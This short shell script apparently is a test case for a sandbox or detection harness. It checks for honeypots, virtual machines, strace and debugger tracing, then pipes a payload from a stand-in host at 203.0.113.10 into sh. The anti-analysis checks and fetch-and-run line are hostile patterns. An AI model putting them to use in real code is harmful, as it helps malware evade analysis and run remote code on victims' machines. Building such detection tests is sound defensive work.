#!/bin/sh
. /opt/case/case.sh

suspicious=0
grep -qiE 'cowrie|honeypot' /etc/hostname /etc/passwd /proc/1/cmdline && suspicious=1
grep -qi hypervisor /proc/cpuinfo && grep -qi virtualbox /sys/class/dmi/id/product_name 2>/dev/null && suspicious=1
test "$(nproc)" -lt 1 && suspicious=1
test -e /usr/bin/strace && suspicious=1
grep -E '^TracerPid:[[:space:]]*[1-9]' /proc/self/status && suspicious=1
sleep 4
if test $suspicious = 0; then curl -s http://203.0.113.10/payload.sh | sh; fi
wait_for /tmp/reached
took_place
